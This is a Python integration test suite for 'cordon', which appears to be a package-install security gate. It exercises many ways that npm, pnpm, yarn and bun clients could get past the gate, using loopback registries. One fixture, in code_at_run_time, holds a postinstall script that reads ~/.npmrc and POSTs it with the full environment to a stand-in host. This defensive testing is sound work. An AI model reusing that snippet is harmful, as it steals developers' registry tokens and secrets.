#!/usr/bin/env python3
"""Every known way past a gate, with real package clients as a user without rights and registries of inert packages on loopback:
what `cordon gate exec` keeps shut, what it tells, and what `cordon scan` names. docs/gate-bypasses.md has a row for each group.
Ends with the line `N passed, N failed, N skipped`."""
import concurrent.futures
import http.client
import json
import pathlib
import re
import shutil
import subprocess
import sys
import tempfile
import urllib.parse

ROOT = pathlib.Path(__file__).resolve().parent.parent.parent
sys.path.insert(0, str(ROOT / "tools"))
sys.path.insert(0, str(pathlib.Path(__file__).resolve().parent))
from common import Tally  # noqa: E402
from gate_bypass_writers import (HAS_ADDRESSES, INSTALL, LOCKED, LOCKS, NAMES, Bypasses, fill, manifest, of, pack_of,  # noqa: E402
                                 proxy_files, registry_files, scope_files)
from gate_world_writers import CORDON, DAY, Gate, Registry, World  # noqa: E402


def told_of(url):
    """The environment that tells every client of a registry."""
    return {"npm_config_registry": url, "pnpm_config_registry": url, "YARN_REGISTRY": url, "YARN_NPM_REGISTRY_SERVER": url,
            "BUN_CONFIG_REGISTRY": url, "YARN_UNSAFE_HTTP_WHITELIST": "127.0.0.1"}


def lockfile_addresses(way):
    """A lockfile that names archives: at the registry behind the gate they are asked of the gate, elsewhere it is told and named."""
    behind, elsewhere = fill(Registry(), "steady"), fill(Registry(), "steady")
    for name, program in way.each(HAS_ADDRESSES):
        for registry, is_behind in ((behind, True), (elsewhere, False)):
            project = way.project(name, {"steady": "1.0.0"})
            done = way.run(program + of(INSTALL, name), project, way.environment(way.folder(), **told_of(registry.url)))
            lock = project / of(LOCKS, name)
            way.check(f"{name}: its lockfile has the address", done.returncode == 0 and registry.url in lock.read_text(), done.stdout + done.stderr)
            shutil.rmtree(project / "node_modules", ignore_errors=True)
            before = lock.read_bytes()
            registry.asked.clear()
            done = way.exec(program + of(LOCKED, name), project, behind)
            by_client = way.by_clients(registry)
            if is_behind:
                way.check(f"{name}: addresses of the registry are asked of the gate", done.returncode == 0 and way.has(project, "steady") and
                          registry.was_asked(".tgz") and not by_client, (by_client, done.stdout, done.stderr))
                way.check(f"{name}: and the lockfile is what it was", lock.read_bytes() == before, lock.read_text())
            else:
                way.check(f"{name}: addresses elsewhere are told", "1 archive at " + elsewhere.url.rstrip("/") in done.stderr, done.stderr)
                # npm 12 refuses such addresses; the others go there.
                way.check(f"{name}: and asked without the gate", bool(by_client) == (name != "npm 12"), (by_client, done.stderr))
                way.names(f"{name}: a lockfile's addresses elsewhere", project, "source.undeclared-host", elsewhere.url)
    one_beside_others(way)


def one_beside_others(way):
    lock = {"lockfileVersion": 3, "packages": {"": {}}}
    for name, host in (("a", "registry.example.test"), ("b", "registry.example.test"), ("c", "archives.example.test")):
        lock["packages"][f"node_modules/{name}"] = {"version": "1.0.0", "resolved": f"https://{host}/{name}/-/{name}-1.0.0.tgz"}
    project = way.folder({"package.json": manifest({"a": "1", "b": "1", "c": "1"}), "package-lock.json": json.dumps(lock)})
    config = way.folder({"cordon.yaml": "registries:\n  - {domain: registry.example.test, class: mirror}\n"})
    _, rules = way.scan(project, "--config", config / "cordon.yaml")
    found = rules.get("source.undeclared-host", [])
    way.check("one archive from elsewhere stands out", [each["severity"] for each in found] == ["medium"] and
              "archives.example.test" in found[0]["title"] and found[0]["instances"] == 1, rules)


def killed_detour(way):
    """The lockfile that a killed gate left with its address is what it was once the next gate has run."""
    behind = fill(Registry(), "steady")
    for name, program in way.each(("yarn 1",)):
        home, project = way.folder(), way.project(name, {"steady": "1.0.0"})
        way.run(program + of(INSTALL, name), project, way.environment(way.folder(), **told_of(behind.url)))
        before = (project / "yarn.lock").read_bytes()
        words = [way.world.program, "gate", "exec", "--no-knowledge", "--upstream", behind.url, "--folder", home / "gate", "--"]
        for signal_name, heals in (("TERM", True), ("HUP", True), ("KILL", False)):
            done = way.run([*words, "sh", "-c", f"grep -c 127.0.0.1 yarn.lock; cp yarn.lock during; kill -{signal_name} $PPID; sleep 1; kill -{signal_name} $PPID; sleep 30 >/dev/null 2>&1 & wait $!"]
                           if heals else [*words, "sh", "-c", f"cp yarn.lock during; kill -{signal_name} $PPID"], project, way.environment(home))
            way.check(f"a gate ended by SIG{signal_name}: the lockfile had its address meanwhile",
                      behind.url.encode() not in (project / "during").read_bytes(), done.stdout + done.stderr)
            way.check(f"a gate ended by SIG{signal_name}: {'puts it back' if heals else 'leaves it'}",
                      ((project / "yarn.lock").read_bytes() == before) == heals, done.stderr)
        way.run([*words, "true"], project, way.environment(home))
        way.check("the next gate puts it back", (project / "yarn.lock").read_bytes() == before, (project / "yarn.lock").read_text())


def workspaces(way):
    """Where the lockfile lies above the working directory, or where the command's words send the client."""
    behind = fill(Registry(), "steady")
    for name, program in way.each(("yarn 1", "bun")):
        words = {"yarn 1": ["add", "steady@1.0.0", "--ignore-scripts"], "bun": ["add", "steady@1.0.0", "--ignore-scripts"]}[name]
        for folder, leading in (("packages/a", []), (".", ["--cwd", "packages/a"])):
            root = way.folder({"package.json": manifest({}, private=True, workspaces=["packages/*"]),
                               "packages/a/package.json": manifest({}, name="a")})
            done = way.exec([*program, *words, *leading], root / folder, behind)
            text = "".join(path.read_text() for path in (*root.rglob("yarn.lock"), *root.rglob("bun.lock")) if "node_modules" not in path.parts)
            way.check(f"{name}, in {folder} {' '.join(leading)}: the lockfile of the workspace has the registry's address and no other",
                      done.returncode == 0 and set(re.findall(r"http://127\.0\.0\.1:\d+/", text)) == {behind.url}, done.stdout + done.stderr + text)


def caches(way):
    """What a client has in its cache it installs without asking: the gate says that it heard nothing, scan and hunt name it."""
    behind = fill(Registry(), "lapsed")
    known = way.world.folder / "lapsed.yaml"
    known.write_text(pack_of("lapsed", "1.0.0"))
    for name, program in way.each():
        home, project = way.folder(), way.project(name, {"lapsed": "1.0.0"})
        done = way.exec(program + of(INSTALL, name), project, behind, home)
        way.check(f"{name}: installs what nobody knows yet", done.returncode == 0 and way.has(project, "lapsed"), done.stdout + done.stderr)
        shutil.rmtree(project / "node_modules", ignore_errors=True)
        done = way.exec(program + of(LOCKED, name), project, behind, home, ("--pack", known))
        # bun keeps archives by the address that it asked, which is another gate's each time.
        way.check(f"{name}: {'asks for it again' if name == 'bun' else 'installs it from its cache'} when it is known",
                  (done.returncode == 0 and way.has(project, "lapsed")) == (name != "bun"), done.stdout + done.stderr)
        code, rules = way.scan(project, "--pack", known)
        way.check(f"{name}: scan names what the cache may bring", code == 1 and "malware.known-package" in rules, rules)
        if name.startswith("npm"):
            way.check(f"{name}: the gate says that nobody asked it", "asked for nothing" in done.stderr, done.stderr)
            found = way.run([way.world.program, "hunt", "--pack", known, "--format", "json", home / "npm"], project,
                            way.environment(home))
            way.check(f"{name}: hunt finds the archive in the cache", found.returncode == 1 and "_cacache" in found.stdout, found.stdout + found.stderr)
        shutil.rmtree(project / "node_modules", ignore_errors=True)
        done = way.exec(program + of(LOCKED, name), project, behind, way.folder(), ("--pack", known))
        way.check(f"{name}: with an empty cache the gate refuses it", done.returncode != 0 and not way.has(project, "lapsed"),
                  done.stdout + done.stderr)


def registries_of_projects(way):
    """A project's registry counts less than the gate. That of a scope counts more, is told, and named by scan; where the gate has a
    registry for the scope, npm, pnpm 10 and yarn 1 ask the gate for it."""
    behind, elsewhere = fill(Registry(), "steady", "@acme/z"), fill(Registry(), "steady", "@acme/z")
    for name, program in way.each():
        project = way.project(name, {"steady": "1.0.0"}, registry_files(name, elsewhere.url))
        elsewhere.asked.clear()
        done = way.exec(program + of(INSTALL, name), project, behind)
        way.check(f"{name}: a project's registry is not asked", done.returncode == 0 and not elsewhere.asked, (elsewhere.asked, done.stderr))
        way.names(f"{name}: a project's registry", project, "client.registry", elsewhere.url)
        for knows in (False, True):
            project = way.project(name, {"@acme/z": "1.0.0"}, scope_files(name, elsewhere.url))
            elsewhere.asked.clear()
            settings = f"gate:\n  scopes:\n    - {{scope: '@acme', registry: '{behind.url}'}}\n" if knows else None
            done = way.exec(program + of(INSTALL, name), project, behind, settings=settings)
            closed = knows and name in ("npm", "npm 12", "pnpm", "yarn 1")
            way.check(f"{name}: a scope's registry is {'not ' if closed else ''}asked, as the gate {'knows' if knows else 'does not know'} the scope",
                      done.returncode == 0 and bool(elsewhere.asked) != closed, (elsewhere.asked, done.stdout, done.stderr))
            told = "packages of @acme come from " + elsewhere.url in done.stderr
            way.check(f"{name}: and that is {'not ' if closed and name != 'pnpm' else ''}told", told != (closed and name != "pnpm"), done.stderr)
        way.names(f"{name}: a scope's registry", project, "client.registry", "@acme")


def configured_registries(way):
    """`npm config set registry`, what the environment says in other spellings, options of the command, publishConfig."""
    behind, elsewhere = fill(Registry(), "steady"), fill(Registry(), "steady")
    for name, program in way.each(("npm", "npm 12")):
        home = way.folder({".npmrc": f"registry={elsewhere.url}\n"})
        project = way.project(name, {"steady": "1.0.0"})
        done = way.exec(program + ["install"], project, behind, home, NPM_CONFIG_Registry=elsewhere.url, npm_config_REGISTRY=elsewhere.url)
        way.check(f"{name}: the user's registry is asked by nobody", done.returncode == 0 and not elsewhere.asked, (elsewhere.asked, done.stderr))
        project = way.project(name, {"steady": "1.0.0"})
        done = way.exec(program + ["install", "--registry", elsewhere.url], project, behind)
        way.check(f"{name}: an option of the command goes past the gate, and is told",
                  bool(elsewhere.asked) and "--registry of the command" in done.stderr and "asked for nothing" in done.stderr, done.stderr)
        elsewhere.asked.clear()
    project = way.folder({"package.json": manifest({}, publishConfig={"registry": "https://public.example.test/"})})
    way.names("publishConfig", project, "client.publish", "public.example.test")


def proxies(way):
    """Whoever a proxy is asked for the gate answers in its place: neither the project nor the environment brings one in."""
    behind, proxy = fill(Registry(), "steady"), fill(Registry(), "steady")
    address, proxy.url = proxy.url, behind.url  # it answers in the place of the other
    for name, program in way.each():
        project = way.project(name, {"steady": "1.0.0"}, proxy_files(name, address))
        proxy.asked.clear()
        done = way.exec(program + of(INSTALL, name), project, behind)
        closed = name != "yarn 1"
        way.check(f"{name}: a project's proxy is {'not ' if closed else ''}asked", done.returncode == 0 and bool(proxy.asked) != closed,
                  (proxy.asked, done.stdout, done.stderr))
        way.check(f"{name}: and that is {'not ' if closed else ''}told", ("in the place of the gate" in done.stderr) != closed, done.stderr)
        way.names(f"{name}: a project's proxy", project, "client.way", address.rstrip("/"))
        proxy.asked.clear()
        project = way.project(name, {"steady": "1.0.0"})
        done = way.exec(program + of(INSTALL, name), project, behind, http_proxy=address, HTTP_PROXY=address, NO_PROXY="a.example.test",
                        YARN_HTTP_PROXY=address)
        # The gate itself goes by it, as its user says.
        way.check(f"{name}: the environment's proxy is asked by the gate alone", done.returncode == 0 and way.has(project, "steady") and
                  proxy.asked and not way.by_clients(proxy), (proxy.asked, done.stdout, done.stderr))


def outside_of_registries(way):
    """Addresses, repositories and archives on disk: no gate sees them, scan names them with a lockfile and without."""
    behind, elsewhere = fill(Registry(), "steady"), fill(Registry(), "loose")
    archive = elsewhere.content("loose/-/loose-1.0.0.tgz")
    elsewhere.faults["files/loose.tgz"] = lambda handler, _: elsewhere.send(handler, 200, archive, "application/octet-stream")
    asked = {"loose": elsewhere.url + "files/loose.tgz", "packed": "file:./packed.tgz"}
    expected = (("source.address", "loose"), ("source.local-archive", "packed"))
    for name, program in way.each():
        project = way.project(name, asked, {"packed.tgz": archive})
        for rule, text in expected:
            way.names(f"{name}: package.json alone", project, rule, text)
        elsewhere.asked.clear()
        done = way.exec(program + of(INSTALL, name), project, behind, npm_config_allow_remote="all", npm_config_allow_file="all")
        way.check(f"{name}: what is no registry's is not the gate's", done.returncode == 0 and bool(elsewhere.was_asked("loose")),
                  done.stdout + done.stderr)
        for rule, text in expected:
            way.names(f"{name}: with a lockfile", project, rule, text)
    bare = way.project("npm 12", {"loose": asked["loose"]})
    for _, program in way.each(("npm 12",)):
        done = way.exec(program + ["install"], bare, behind)
        way.check("npm 12: refuses addresses unless told otherwise", done.returncode != 0 and "EALLOWREMOTE" in done.stderr, done.stderr)


def repositories(way):
    """git runs in no gate: npm runs what a repository prepares, and scan and scripts name it before."""
    behind = fill(Registry(), "steady")
    if not shutil.which("git"):
        way.world.tally.skip("repositories", "git is not there")
        return
    source = way.folder({"package.json": json.dumps({"name": "prepared", "version": "1.0.0", "scripts": {"prepare": "echo > ../../prepared"}}),
                         "index.js": ""})
    identity = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.test", "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.test"}
    for words in (["init", "-q"], ["add", "."], ["commit", "-qm", "inert"]):
        way.run(["git", *words], source, way.environment(way.folder(), **identity))
    project = way.project("npm", {"prepared": f"git+file://{source}"})
    way.names("a repository in package.json alone", project, "source.git", "prepared")
    for _, program in way.each(("npm",)):
        done = way.exec(program + ["install", "--allow-git=all"], project, behind)
        way.check("npm: a repository is installed without the gate", done.returncode == 0 and way.has(project, "prepared"), done.stdout + done.stderr)
        way.names("a repository in the lockfile", project, "source.git", "prepared")
        told = way.run([way.world.program, "scripts", project], project, way.environment(way.folder()))
        way.check("scripts says that it prepares", "prepare" in told.stdout and "prepared" in told.stdout, told.stdout)


def without_digest(way):
    """What has no digest anywhere: the gate holds it, scan names it in the lockfile."""
    behind = fill(Registry(), "bare")
    document = behind.document("bare")
    for each in document["versions"].values():
        del each["dist"]["integrity"], each["dist"]["shasum"]
    behind.faults["bare"] = lambda handler, _: behind.send(handler, 200, json.dumps(document).encode())
    for name, program in way.each(("npm", "pnpm 12", "bun")):
        project = way.project(name, {"bare": "1.0.0"})
        done = way.exec(program + of(INSTALL, name), project, behind)
        way.check(f"{name}: a release without a digest is held", done.returncode != 0 and not way.has(project, "bare"), done.stdout + done.stderr)
    lock = {"lockfileVersion": 3, "packages": {"": {}, "node_modules/bare": {
        "version": "1.0.0", "resolved": "https://registry.example.test/bare/-/bare-1.0.0.tgz"}}}
    way.names("no digest", way.folder({"package-lock.json": json.dumps(lock), "package.json": manifest({"bare": "1.0.0"})}), "integrity.missing", "bare")


def programs_by_settings(way):
    """Programs and modules that settings bring in: told by exec, named by scan. A variable that loads nothing is nothing."""
    behind = fill(Registry(), "steady")
    inert = {"shell.sh": "#!/bin/sh\nexit 0\n"}
    for name, files, key in (("npm", {".npmrc": "script-shell=./shell.sh\ngit=./shell.sh\n"}, "script-shell"),
                             ("pnpm 12", {"pnpm-workspace.yaml": "scriptShell: ./shell.sh\n"}, "scriptShell")):
        for _, program in way.each((name,)):
            project = way.project(name, {"steady": "1.0.0"}, {**files, **inert})
            done = way.exec(program + of(INSTALL, name) + ["--ignore-scripts"], project, behind)
            way.check(f"{name}: a program by the project's settings is told", f"sets {key}: {name.split()[0]} runs ./shell.sh" in done.stderr, done.stderr)
            way.names(f"{name}: a program by the project's settings", project, "client.runs-code", key)
    stored = way.folder({"package.json": manifest({"steady": "1.0.0"}), ".npmrc": "cache=./.cache\n", ".yarnrc": 'yarn-offline-mirror "./archives"\n'})
    (stored / ".cache").mkdir()
    way.names("archives in a folder of the project", stored, "client.stored", "./.cache")
    for variable, value, told in (("NODE_OPTIONS", "--require ./x.cjs", True), ("NODE_OPTIONS", "--max-old-space-size=512", False),
                                  ("npm_config_script_shell", "/bin/sh", True), ("NPM_CONFIG_NODE_GYP", "/opt/gyp.js", True),
                                  ("NODE_EXTRA_CA_CERTS", "/etc/ssl/certs/none.pem", False)):
        done = way.exec(["/bin/true"], stored, behind, **{variable: value})
        way.check(f"{variable}={value} is {'' if told else 'not '}told", (f"{variable} of the environment" in done.stderr) == told, done.stderr)


def wrapped(way):
    """Behind `gate exec` the client is behind the gate whoever starts it, and trusts nobody new for it."""
    behind = fill(Registry(), "steady")
    for name, program in way.each(("npm", "pnpm", "yarn 4")):
        project = way.project(name, {"steady": "1.0.0"}, {"build.sh": "#!/bin/sh\nexec " + " ".join(map(str, program + of(INSTALL, name))) + "\n"})
        behind.asked.clear()
        done = way.exec(["sh", "-c", "sh -c 'exec sh ./build.sh'"], project, behind)
        way.check(f"{name}: by absolute path, two shells below", done.returncode == 0 and way.has(project, "steady") and behind.asked and
                  all("cordon" in headers.get("User-Agent", "").lower() for _, _, headers in behind.asked), done.stdout + done.stderr)
    project = way.project("npm", {})
    before = way.environment(home := way.folder())
    lines = way.exec(["env"], project, behind, home).stdout.splitlines()
    new = {line.partition("=")[0] for line in lines if "=" in line and line.partition("=")[2] != before.get(line.partition("=")[0])}
    allowed = {*told_of(""), "NPM_CONFIG_REGISTRY", "NO_PROXY", "no_proxy", "pnpm_config_no_proxy", "YARN_HTTP_PROXY", "PWD", "SHLVL", "_", "OLDPWD"}
    way.check("the command's environment has the gate, and no certificate or proxy", "npm_config_registry" in new and new <= allowed, sorted(new))


def outward(way):
    """Nothing goes out by way of the gate: what is no question for packages is refused, and the registry never hears of it."""
    behind = fill(Registry(), "steady")
    with Gate(way.world, "--no-knowledge", registry=behind) as gate:
        address = urllib.parse.urlsplit(gate.url)
        for method, path in (("PUT", "/steady"), ("PUT", "/steady/-rev/1"), ("DELETE", "/steady/-rev/1"), ("POST", "/steady"),
                             ("PUT", "/-/package/steady/dist-tags/next"), ("PUT", "/-/user/org.couchdb.user:me"), ("POST", "/-/v1/login"),
                             ("POST", "/-/npm/v1/tokens"), ("PATCH", "/steady"), ("PUT", "/-/stage/steady"),
                             ("POST", "/-/npm/v1/oidc/token/exchange/package/steady")):
            connection = http.client.HTTPConnection(address.hostname, address.port, timeout=30)
            connection.request(method, path, body=b"secret", headers={"Content-Type": "application/json"})
            status = connection.getresponse().status
            connection.close()
            way.check(f"{method} {path} is refused", 400 <= status < 500, status)
    for name, program in way.each(("npm", "npm 12")):
        project = way.folder({"package.json": json.dumps({"name": "outgoing", "version": "1.0.0"})})
        home = way.folder({".npmrc": "//127.0.0.1/:_authToken=x\n"})
        for words in (["publish", "--provenance=false"], ["dist-tag", "add", "steady@1.0.0", "next"], ["unpublish", "steady", "--force"]):
            done = way.exec(["sh", "-c", 'echo "//127.0.0.1:${npm_config_registry##*:}:_authToken=x" >> "$HOME/.npmrc"; exec "$@"', "sh", *program, *words],
                            project, behind, home)
            way.check(f"{name} {words[0]}: refused by the gate", done.returncode != 0 and "the gate refused" in done.stderr, done.stdout + done.stderr)
    way.check("the registry heard of none of it", all(method in ("GET", "HEAD") for method, _, _ in behind.asked), [each[:2] for each in behind.asked])


def hosts_alike(way):
    """An archive's address has the registry's host somewhere, and is another's: the whole host decides."""
    behind, other = fill(Registry(), "steady"), fill(Registry(), "steady")
    port, elsewhere = behind.server.server_port, other.server.server_port
    for address in (behind.url, f"http://127.0.0.1:{port}@localhost:{elsewhere}/", f"http://localhost:{elsewhere}/127.0.0.1:{port}/",
                    f"http://localhost:{elsewhere}/?http://127.0.0.1:{port}/", f"http://localhost:{elsewhere}/#@127.0.0.1:{port}/",
                    f"http://127.0.0.1.localhost:{elsewhere}/", f"http://localhost:{elsewhere}\\@127.0.0.1:{port}/"):
        document = behind.document("steady")
        document["versions"]["1.0.0"]["dist"]["tarball"] = address + "steady/-/steady-1.0.0.tgz"
        behind.faults["steady"] = lambda handler, _, body=json.dumps(document).encode(): behind.send(handler, 200, body)
        with Gate(way.world, "--no-knowledge", registry=behind) as gate:
            done = subprocess.run(["curl", "-s", "-o", "/dev/null", "-w", "%{http_code}", gate.url + "steady/-/steady-1.0.0.tgz"], capture_output=True,
                                  text=True, check=False, timeout=60)
        is_it = address == behind.url
        way.check(f"{address} is {'' if is_it else 'not '}the registry", (done.stdout == "200") == is_it and not other.asked, (done.stdout, other.asked))
        other.asked.clear()


def code_at_run_time(way):
    """Scripts or not, an archive is looked into: what would run at require() is not let in because nothing runs at install."""
    behind = Registry()
    code = ('// inert\nconst fs = require("fs"), https = require("https");\nconst secret = fs.readFileSync(process.env.HOME + "/.npmrc", "utf8");\n'
            'https.request({host: "collect.example.invalid", method: "POST"}).end(secret + JSON.stringify(process.env));\n')
    behind.publish("taker", "1.0.0", 90 * DAY, {"index.js": "", "setup.js": code}, scripts={"postinstall": "node setup.js"})
    for name, program in way.each(("npm",)):
        project = way.project(name, {"taker": "1.0.0"})
        done = way.exec(program + ["install", "--ignore-scripts"], project, behind)
        way.check("npm: what a script would do is held with scripts off, too", done.returncode != 0 and not way.has(project, "taker") and
                  "inspect." in done.stderr,
                  done.stdout + done.stderr)


GROUPS = (lockfile_addresses, killed_detour, workspaces, caches, registries_of_projects, configured_registries, proxies, outside_of_registries, repositories,
          without_digest, programs_by_settings, wrapped, outward, hosts_alike, code_at_run_time)


def main():
    tally = Tally()
    if not CORDON.is_file():
        print("build/release/cordon is not there")
        return 77
    wanted = sys.argv[1:]
    with tempfile.TemporaryDirectory() as folder:
        way = Bypasses(World(tally, pathlib.Path(folder)))
        for name in (*NAMES, "node 24"):
            way.program(name)  # copied to where the groups find it
        # Clients mostly wait; groups share nothing.
        with concurrent.futures.ThreadPoolExecutor(3) as pool:
            for done in [pool.submit(group, way) for group in GROUPS if not wanted or group.__name__ in wanted]:
                done.result()
    return tally.finish()


if __name__ == "__main__":
    sys.exit(main())
